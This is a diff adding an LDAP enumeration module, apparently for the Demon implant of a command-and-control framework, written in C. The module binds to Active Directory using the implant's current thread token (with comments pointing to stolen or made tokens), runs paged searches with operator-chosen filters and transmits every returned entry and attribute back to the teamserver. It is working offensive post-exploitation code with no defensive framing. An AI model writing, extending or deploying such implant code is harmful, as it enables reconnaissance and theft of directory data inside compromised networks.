@@ -0,0 +1,293 @@
+#include <Demon.h>
+#include <core/Ldap.h>
+#include <core/MiniStd.h>
+#include <core/Runtime.h>
+
+/*!
+ * Reads a naming context of the directory from the rootDSE.
+ * @param Ldap connection to the directory
+ * @param Name rootDSE attribute of the naming context
+ * @return naming context. needs to be freed
+ */
+static PCHAR LdapNamingContext(
+    IN PLDAP Ldap,
+    IN PCHAR Name
+) {
+    PLDAPMessage Result     = NULL;
+    PLDAPMessage Entry      = NULL;
+    PBERVAL*     Values     = NULL;
+    PCHAR        Context    = NULL;
+    PCHAR        Attrs[ 2 ] = { Name, NULL };
+
+    if ( Instance->Win32.ldap_search_sA( Ldap, "", LDAP_SCOPE_BASE, "(objectClass=*)", Attrs, FALSE, &Result ) != LDAP_SUCCESS ) {
+        goto END;
+    }
+
+    if ( ! ( Entry = Instance->Win32.ldap_first_entry( Ldap, Result ) ) ) {
+        goto END;
+    }
+
+    if ( ( Values = Instance->Win32.ldap_get_values_lenA( Ldap, Entry, Attrs[ 0 ] ) ) && Values[ 0 ] ) {
+        if ( ( Context = MmHeapAlloc( Values[ 0 ]->bv_len + 1 ) ) ) {
+            MemCopy( Context, Values[ 0 ]->bv_val, Values[ 0 ]->bv_len );
+        }
+    }
+
+END:
+    if ( Values ) {
+        Instance->Win32.ldap_value_free_len( Values );
+    }
+
+    if ( Result ) {
+        Instance->Win32.ldap_msgfree( Result );
+    }
+
+    return Context;
+}
+
+/*!
+ * Adds the entries of the page to the package.
+ * every entry is sent as [DN, (Name, ValueCount, Values...)..., empty Name]
+ * @param Ldap connection to the directory
+ * @param Result page of the search
+ * @param Package package to add the entries to
+ * @param Max maximum number of entries to add
+ * @return number of entries added
+ */
+static ULONG LdapPackEntries(
+    IN PLDAP        Ldap,
+    IN PLDAPMessage Result,
+    IN PPACKAGE     Package,
+    IN ULONG        Max
+) {
+    PLDAPMessage Entry     = NULL;
+    BerElement*  Ber       = NULL;
+    PCHAR        Attribute = NULL;
+    PCHAR        DN        = NULL;
+    PBERVAL*     Values    = NULL;
+    ULONG        Count     = 0;
+    ULONG        Entries   = Instance->Win32.ldap_count_entries( Ldap, Result );
+
+    if ( Entries > Max ) {
+        Entries = Max;
+    }
+
+    PackageAddInt32( Package, Entries );
+
+    for ( Entry = Instance->Win32.ldap_first_entry( Ldap, Result ); Entry && Count < Entries; Entry = Instance->Win32.ldap_next_entry( Ldap, Entry ) )
+    {
+        if ( ( DN = Instance->Win32.ldap_get_dnA( Ldap, Entry ) ) ) {
+            PackageAddString( Package, DN );
+            Instance->Win32.ldap_memfreeA( DN );
+        } else {
+            PackageAddBytes( Package, NULL, 0 );
+        }
+
+        for ( Attribute = Instance->Win32.ldap_first_attributeA( Ldap, Entry, &Ber ); Attribute; Attribute = Instance->Win32.ldap_next_attributeA( Ldap, Entry, Ber ) )
+        {
+            ULONG ValueCount = 0;
+
+            Values = Instance->Win32.ldap_get_values_lenA( Ldap, Entry, Attribute );
+
+            for ( ; Values && Values[ ValueCount ]; ValueCount++ );
+
+            PackageAddString( Package, Attribute );
+            PackageAddInt32( Package, ValueCount );
+
+            for ( ULONG i = 0; i < ValueCount; i++ ) {
+                PackageAddBytes( Package, Values[ i ]->bv_val, Values[ i ]->bv_len );
+            }
+
+            if ( Values ) {
+                Instance->Win32.ldap_value_free_len( Values );
+            }
+
+            Instance->Win32.ldap_memfreeA( Attribute );
+        }
+
+        if ( Ber ) {
+            Instance->Win32.ber_free( Ber, 0 );
+            Ber = NULL;
+        }
+
+        /* end of the attributes of the entry */
+        PackageAddBytes( Package, NULL, 0 );
+
+        Count++;
+    }
+
+    return Count;
+}
+
+ULONG LdapQuery(
+    IN PLDAP_QUERY Query
+) {
+    PLDAP        Ldap       = NULL;
+    PLDAPSearch  Search     = NULL;
+    PLDAPMessage Result     = NULL;
+    PPACKAGE     Package    = NULL;
+    PCHAR        BaseDN     = Query->BaseDN;
+    PCHAR        Context    = NULL;
+    PCHAR        Buffer     = NULL;
+    PCHAR        Attrs[ LDAP_MAX_ATTRIBUTES + 1 ] = { 0 };
+    ULONG        AttrCount  = 0;
+    ULONG        Status     = LDAP_SUCCESS;
+    ULONG        Version    = LDAP_VERSION3;
+    ULONG        Count      = 0;
+    ULONG        Total      = 0;
+
+    if ( ! RtWldap32() ) {
+        Status = LDAP_LOCAL_ERROR;
+        goto END;
+    }
+
+    /* split the attributes into the list the search expects */
+    if ( Query->Attributes && StringLengthA( Query->Attributes ) ) {
+        if ( ! ( Buffer = MmHeapAlloc( StringLengthA( Query->Attributes ) + 1 ) ) ) {
+            Status = LDAP_NO_MEMORY;
+            goto END;
+        }
+
+        StringCopyA( Buffer, Query->Attributes );
+
+        for ( PCHAR Ptr = Buffer; *Ptr && AttrCount < LDAP_MAX_ATTRIBUTES; ) {
+            while ( *Ptr == ' ' || *Ptr == ',' ) {
+                *Ptr++ = 0;
+            }
+
+            if ( ! *Ptr ) {
+                break;
+            }
+
+            Attrs[ AttrCount++ ] = Ptr;
+
+            while ( *Ptr && *Ptr != ',' && *Ptr != ' ' ) {
+                Ptr++;
+            }
+        }
+    }
+
+    if ( ! ( Ldap = Instance->Win32.ldap_initA( ( Query->Server && StringLengthA( Query->Server ) ) ? Query->Server : NULL, LDAP_PORT ) ) ) {
+        Status = Instance->Win32.LdapGetLastError();
+        PRINTF( "ldap_initA failed: %x\n", Status )
+        goto END;
+    }
+
+    Instance->Win32.ldap_set_option( Ldap, LDAP_OPT_PROTOCOL_VERSION, &Version );
+    Instance->Win32.ldap_set_option( Ldap, LDAP_OPT_SIGN, LDAP_OPT_ON );
+
+    /* bind using the token of the thread (make_token, steal_token) */
+    if ( ( Status = Instance->Win32.ldap_bind_sA( Ldap, NULL, NULL, LDAP_AUTH_NEGOTIATE ) ) != LDAP_SUCCESS ) {
+        PRINTF( "ldap_bind_sA failed: %x\n", Status )
+        goto END;
+    }
+
+    if ( Query->Context && StringLengthA( Query->Context ) ) {
+        PCHAR Naming = NULL;
+        ULONG Length = 0;
+
+        if ( ! ( Naming = LdapNamingContext( Ldap, Query->Context ) ) ) {
+            Status = LDAP_NO_SUCH_OBJECT;
+            goto END;
+        }
+
+        /* the base dn is relative to the naming context */
+        if ( BaseDN && StringLengthA( BaseDN ) ) {
+            Length = StringLengthA( BaseDN ) + StringLengthA( Naming ) + 2;
+
+            if ( ! ( Context = MmHeapAlloc( Length ) ) ) {
+                MmHeapFree( Naming );
+                Status = LDAP_NO_MEMORY;
+                goto END;
+            }
+
+            StringCopyA( Context, BaseDN );
+            StringConcatA( Context, "," );
+            StringConcatA( Context, Naming );
+
+            MmHeapFree( Naming );
+        } else {
+            Context = Naming;
+        }
+
+        BaseDN = Context;
+    } else if ( ! BaseDN || ! StringLengthA( BaseDN ) ) {
+        if ( ! ( BaseDN = Context = LdapNamingContext( Ldap, "defaultNamingContext" ) ) ) {
+            Status = LDAP_NO_SUCH_OBJECT;
+            goto END;
+        }
+    }
+
+    PRINTF( "LdapQuery: BaseDN:[%s] Filter:[%s] Attributes:[%d]\n", BaseDN, Query->Filter, AttrCount )
+
+    if ( ! ( Search = Instance->Win32.ldap_search_init_pageA( Ldap, BaseDN, Query->Scope, Query->Filter, AttrCount ? Attrs : NULL, FALSE, NULL, NULL, 0, Query->MaxEntries, NULL ) ) ) {
+        Status = Instance->Win32.LdapGetLastError();
+        goto END;
+    }
+
+    while ( Total < Query->MaxEntries )
+    {
+        Status = Instance->Win32.ldap_get_next_page_s( Ldap, Search, NULL, Query->PageSize, &Count, &Result );
+
+        if ( Status != LDAP_SUCCESS && Status != LDAP_SIZELIMIT_EXCEEDED ) {
+            break;
+        }
+
+        if ( Result ) {
+            Package = PackageCreate( DEMON_COMMAND_LDAP );
+
+            PackageAddInt32( Package, LDAP_SUCCESS );
+            PackageAddInt32( Package, FALSE );
+            PackageAddString( Package, BaseDN );
+
+            Total += LdapPackEntries( Ldap, Result, Package, Query->MaxEntries - Total );
+
+            PackageTransmit( Package );
+
+            Instance->Win32.ldap_msgfree( Result );
+            Result = NULL;
+        }
+
+        if ( Status == LDAP_SIZELIMIT_EXCEEDED ) {
+            break;
+        }
+    }
+
+    /* no more pages, or we reached the limit of entries */
+    if ( Status == LDAP_NO_RESULTS_RETURNED || Status == LDAP_SIZELIMIT_EXCEEDED || Total >= Query->MaxEntries ) {
+        Status = LDAP_SUCCESS;
+    }
+
+END:
+    /* tell the teamserver the search is done */
+    Package = PackageCreate( DEMON_COMMAND_LDAP );
+
+    PackageAddInt32( Package, Status );
+    PackageAddInt32( Package, TRUE );
+    if ( BaseDN ) {
+        PackageAddString( Package, BaseDN );
+    } else {
+        PackageAddBytes( Package, NULL, 0 );
+    }
+    PackageAddInt32( Package, 0 );
+
+    PackageTransmit( Package );
+
+    if ( Search ) {
+        Instance->Win32.ldap_search_abandon_page( Ldap, Search );
+    }
+
+    if ( Ldap ) {
+        Instance->Win32.ldap_unbind( Ldap );
+    }
+
+    if ( Context ) {
+        MmHeapFree( Context );
+    }
+
+    if ( Buffer ) {
+        MmHeapFree( Buffer );
+    }
+
+    return Status;
+}